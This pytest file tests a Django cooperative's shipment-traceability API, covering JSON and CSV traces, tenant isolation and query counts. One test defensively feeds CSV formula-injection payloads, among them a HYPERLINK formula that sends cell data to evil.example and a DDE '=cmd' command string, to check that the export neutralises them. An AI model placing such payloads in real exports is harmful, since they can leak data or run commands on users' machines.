"""Traceability through the API: a shipment's lots, batches, families and associations
(JSON and CSV), a family's shipments; tenancy, formula-safe CSV and query counts that do
not grow with the lots behind a shipment."""

import csv
import io
from decimal import Decimal

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext

from chain import services
from coop import services as coop_services
from coop.models import Association
from tests.chain.api_chain_data import DAY, SHIPPED, build
from tests.factories import AssociationFactory, CertificationFactory, FamilyFactory

URL = "/api/v1/shipments/"


@pytest.fixture
def chain(coop_a, coop_b, personas):
    return build(coop_a, coop_b, personas)


def trace_url(shipment, suffix="/"):
    return f"{URL}{shipment.pk}/trace{suffix}"


def sale(chain, personas, lots, reference="S-1"):
    return services.shipment_create(
        actor=personas.manager,
        cooperative=chain.coop,
        buyer=chain.importer,
        contract=chain.contract,
        product=chain.honey,
        reference=reference,
        shipped_on=SHIPPED,
        exchange_rate=Decimal("5.10"),
        allocations=lots,
    )


def export_batch(chain, personas, n, *, household_names=None, code="EXP-1"):
    """A batch homogenised from n barrels of n certified families in two associations."""
    other = AssociationFactory(cooperative=chain.coop, code=f"ASSOC-{code}", name="Associação Dois")
    barrels = []
    for i in range(n):
        family = FamilyFactory(
            cooperative=chain.coop,
            association=chain.room if i % 2 else other,
            code=f"F-{code}-{i:03d}",
            household_name=(household_names or {}).get(i, f"Silva {i}"),
        )
        for scheme in ("organic", "fair_trade"):
            CertificationFactory(family=family, scheme=scheme)
        barrels.append(chain.barrel(family=family, code=f"BR-{code}-{i:03d}", kg="20"))
    batch = coop_services.batch_create(
        actor=personas.staff,
        cooperative=chain.coop,
        product=chain.honey,
        inputs=[(barrel, "20") for barrel in barrels],
        net_kg=str(20 * n),
        collected_on=DAY,
        code=code,
    )
    return batch, barrels


@pytest.fixture
def traced(chain, personas):
    """A shipment of a two-barrel batch and one barrel sold directly."""
    batch, barrels = export_batch(chain, personas, 2)
    direct = chain.barrel(code="BR-DIRECT")
    shipment = sale(chain, personas, [(batch, "40"), (direct, "5")])
    return shipment, batch, barrels, direct


# --- JSON -----------------------------------------------------------------------------------


def test_trace_reaches_every_lot_batch_family_and_association(api, personas, chain, traced):
    shipment, batch, barrels, direct = traced
    api.force_authenticate(personas.auditor)
    response = api.get(trace_url(shipment))
    assert response.status_code == 200
    trace = response.json()
    assert (trace["shipment"], trace["reference"]) == (shipment.pk, "S-1")
    assert trace["allocations"] == [
        {"lot": direct.pk, "lot_code": "BR-DIRECT", "kg": "5.000"},
        {"lot": batch.pk, "lot_code": "EXP-1", "kg": "40.000"},
    ]
    assert [lot["code"] for lot in trace["batches"]] == ["EXP-1"]
    assert sorted(lot["code"] for lot in trace["lots"]) == ["BR-DIRECT", "BR-EXP-1-000", "BR-EXP-1-001"]
    barrel = next(lot for lot in trace["lots"] if lot["code"] == "BR-EXP-1-000")
    assert (barrel["family_code"], barrel["association_code"], barrel["net_kg"], barrel["kind"]) == (
        "F-EXP-1-000",
        "HR-01",
        "20.000",
        "barrel",
    )
    assert sorted((link["source"], link["output"], link["kg"]) for link in trace["links"]) == [
        (barrels[0].pk, batch.pk, "20.000"),
        (barrels[1].pk, batch.pk, "20.000"),
    ]
    assert [f["code"] for f in trace["families"]] == ["F-CERT", "F-EXP-1-000", "F-EXP-1-001"]
    assert [a["code"] for a in trace["associations"]] == ["ASSOC-EXP-1", "HR-01"]


def test_staff_read_the_trace(api, personas, traced):
    api.force_authenticate(personas.staff)
    assert api.get(trace_url(traced[0])).status_code == 200
    assert api.get(trace_url(traced[0], ".csv")).status_code == 200


@pytest.mark.parametrize("suffix", ["/", ".csv", "/?format=csv", "/?format=json"])
def test_another_cooperatives_trace_answers_404(api, personas, chain, suffix):
    api.force_authenticate(personas.manager)
    response = api.get(trace_url(chain.b_shipment, suffix))
    assert response.status_code == 404
    assert "B-LOT-1" not in response.content.decode("utf-8-sig")


def test_strangers_and_anonymous_get_no_trace(api, personas, traced):
    shipment = traced[0]
    for user in (personas.expired, personas.nobody):
        api.force_authenticate(user)
        assert api.get(trace_url(shipment)).status_code == 404
        assert api.get(trace_url(shipment, ".csv")).status_code == 404
    api.force_authenticate(None)
    assert api.get(trace_url(shipment)).status_code in (401, 403)


def _trace_queries(api, shipment, suffix="/"):
    with CaptureQueriesContext(connection) as queries:
        response = api.get(trace_url(shipment, suffix))
    assert response.status_code == 200
    return response, len(queries)


@pytest.mark.parametrize("suffix", ["/", ".csv"])
def test_trace_queries_do_not_grow_with_the_lots(api, personas, chain, suffix):
    api.force_authenticate(personas.auditor)
    small_batch, _ = export_batch(chain, personas, 2, code="SMALL")
    small = sale(chain, personas, [(small_batch, "40"), (chain.barrel(), "1")], reference="S-SMALL")
    large_batch, _ = export_batch(chain, personas, 30, code="LARGE")
    large = sale(chain, personas, [(large_batch, "600"), (chain.barrel(), "1")], reference="S-LARGE")

    small_answer, for_2 = _trace_queries(api, small, suffix)
    large_answer, for_30 = _trace_queries(api, large, suffix)
    assert for_2 == for_30 <= 7, (for_2, for_30)
    if suffix == "/":
        assert (len(small_answer.json()["lots"]), len(large_answer.json()["lots"])) == (3, 31)


# --- CSV ------------------------------------------------------------------------------------

DANGEROUS = {
    0: '=HYPERLINK("http://evil.example/?"&A1,"Clique")',
    1: "+55 99 9999-9999",
    2: "-2+3",
    3: "@SUM(A1:A9)",
    4: "\tTabulada",
    5: "\rRetorno",
    6: "\nNova linha",
    7: "Sousa = Silva",  # an equals sign inside is harmless
}


def _rows(response):
    assert response["Content-Type"].startswith("text/csv")
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")  # Excel reads the accents as UTF-8
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))


def test_csv_has_one_row_per_lot_with_its_family_and_association(api, personas, traced):
    shipment, batch, barrels, direct = traced
    api.force_authenticate(personas.auditor)
    response = api.get(trace_url(shipment, ".csv"))
    assert response.status_code == 200
    assert response["Content-Disposition"] == 'attachment; filename="trace-S-1.csv"'
    rows = {row["lot"]: row for row in _rows(response)}
    assert set(rows) == {"EXP-1", "BR-EXP-1-000", "BR-EXP-1-001", "BR-DIRECT"}
    assert rows["EXP-1"]["kind"] == "batch" and rows["EXP-1"]["sold_kg"] == "40.000"
    assert rows["EXP-1"]["family"] == ""
    barrel = rows["BR-EXP-1-001"]
    assert (barrel["went_into"], barrel["sold_kg"], barrel["family"], barrel["household_name"]) == (
        "EXP-1",
        "",
        "F-EXP-1-001",
        "Silva 1",
    )
    assert (barrel["family_association"], barrel["collection_point"], barrel["net_kg"]) == (
        "HR-01",
        "HR-01",
        "20.000",
    )
    assert (rows["BR-DIRECT"]["sold_kg"], rows["BR-DIRECT"]["went_into"]) == ("5.000", "")
    assert {row["shipment"] for row in rows.values()} == {"S-1"}


def test_format_csv_is_the_same_export(api, personas, traced):
    api.force_authenticate(personas.auditor)
    by_suffix = api.get(trace_url(traced[0], ".csv"))
    by_query = api.get(trace_url(traced[0], "/?format=csv"))
    assert by_query.status_code == 200
    assert by_query.content == by_suffix.content
    assert api.get(trace_url(traced[0])).json()["reference"] == "S-1"  # JSON stays the default


def test_csv_neutralises_formulas_in_text_cells(api, personas, chain):
    batch, _ = export_batch(chain, personas, len(DANGEROUS), household_names=DANGEROUS)
    Association.objects.filter(pk=chain.room.pk).update(name="=cmd|' /C calc'!A0")
    shipment = sale(chain, personas, [(batch, "160")])
    api.force_authenticate(personas.auditor)
    rows = _rows(api.get(trace_url(shipment, ".csv")))
    names = {row["family"]: row["household_name"] for row in rows if row["family"]}
    for i, name in DANGEROUS.items():
        expected = name if i == 7 else "'" + name
        assert names[f"F-EXP-1-{i:03d}"] == expected, (i, names[f"F-EXP-1-{i:03d}"])
    assert {row["collection_point_name"] for row in rows} == {"'=cmd|' /C calc'!A0", ""}
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r", "\n")), value


def test_csv_error_answers_stay_csv(api, personas, chain):
    api.force_authenticate(personas.manager)
    response = api.get(trace_url(chain.b_shipment, ".csv"))
    assert response.status_code == 404
    assert response["Content-Type"].startswith("text/csv")
    assert response.content.decode("utf-8-sig").splitlines()[0] == "field,message"


def test_other_endpoints_do_not_speak_csv(api, personas, traced):
    api.force_authenticate(personas.auditor)
    assert api.get(f"{URL}?format=csv").status_code == 404
    assert api.get(f"{URL}{traced[0].pk}/?format=csv").status_code == 404


# --- A family's shipments -------------------------------------------------------------------


def family_url(family):
    return f"/api/v1/families/{family.pk}/shipments/"


def test_a_family_sees_every_shipment_its_production_went_into(api, personas, chain, traced):
    shipment, batch, barrels, direct = traced
    services.shipment_confirm(actor=personas.manager, shipment=shipment)
    other = sale(chain, personas, [(chain.barrel(), "1")], reference="S-OTHER")
    api.force_authenticate(personas.staff)
    through_batch = api.get(family_url(barrels[0].family))
    assert through_batch.status_code == 200
    (row,) = through_batch.json()["results"]
    assert (row["reference"], row["status"], row["allocated_kg"], row["allocation_count"]) == (
        "S-1",
        "confirmed",
        "45.000",  # the whole shipment's kg, not only this family's
        2,
    )
    direct = api.get(family_url(chain.certified)).json()["results"]
    assert sorted((r["id"], r["reference"]) for r in direct) == [(shipment.pk, "S-1"), (other.pk, "S-OTHER")]
    assert api.get(family_url(chain.uncertified)).json()["results"] == []


def test_another_cooperatives_family_shipments_answer_404(api, personas, chain):
    api.force_authenticate(personas.manager)
    assert api.get(family_url(chain.b_family)).status_code == 404
    api.force_authenticate(personas.nobody)
    assert api.get(family_url(chain.certified)).status_code == 404


def test_family_shipments_queries_do_not_grow(api, personas, chain):
    family = chain.certified
    api.force_authenticate(personas.auditor)
    sale(chain, personas, [(chain.barrel(family=family), "1")], reference="S-000")
    with CaptureQueriesContext(connection) as few:
        assert len(api.get(family_url(family)).json()["results"]) == 1
    for i in range(1, 15):
        sale(chain, personas, [(chain.barrel(family=family), "1")], reference=f"S-{i:03d}")
    with CaptureQueriesContext(connection) as many:
        assert len(api.get(family_url(family)).json()["results"]) == 15
    assert len(few) == len(many) <= 6, (len(few), len(many))


def test_the_api_root_still_links_families_to_their_list(api, personas):
    api.force_authenticate(personas.staff)
    root = api.get("/api/v1/").json()
    assert root["families"].endswith("/api/v1/families/")
    for resource in ["buyers", "contracts", "shipments", "allocations", "market-position"]:
        assert root[resource].endswith(f"/api/v1/{resource}/"), resource


# --- Schema ---------------------------------------------------------------------------------


def test_the_schema_documents_the_value_chain(client, db):
    schema = client.get("/api/schema/", HTTP_ACCEPT="application/json").json()
    paths = schema["paths"]
    for path in [
        "/api/v1/buyers/",
        "/api/v1/contracts/{id}/fulfilment/",
        "/api/v1/shipments/{id}/trace/",
        "/api/v1/families/{id}/shipments/",
        "/api/v1/market-position/",
    ]:
        assert "get" in paths[path], path
    for path in [
        "/api/v1/buyers/",
        "/api/v1/contracts/",
        "/api/v1/contracts/{id}/minimums/",
        "/api/v1/shipments/",
        "/api/v1/shipments/{id}/confirm/",
        "/api/v1/shipments/{id}/ship/",
        "/api/v1/shipments/{id}/pay/",
    ]:
        names = {(p["in"], p["name"]) for p in paths[path]["post"]["parameters"]}
        assert ("header", "Idempotency-Key") in names, path
    assert set(paths["/api/v1/allocations/"]) == {"get"}
    assert {"cursor", "page_size", "shipment", "lot"} <= {
        p["name"] for p in paths["/api/v1/allocations/"]["get"]["parameters"]
    }
    assert set(paths["/api/v1/shipments/{id}/allocations/"]) == {"put"}
    assert "text/csv" in paths["/api/v1/shipments/{id}/trace/"]["get"]["responses"]["200"]["content"]
    market = paths["/api/v1/market-position/"]["get"]["responses"]["200"]["content"]["application/json"][
        "schema"
    ]
    assert market == {"$ref": "#/components/schemas/MarketPosition"}  # one object, not a page
    shipment = schema["components"]["schemas"]["ShipmentDetail"]["properties"]
    assert (shipment["price_per_kg"]["type"], shipment["allocated_kg"]["type"]) == ("string", "string")
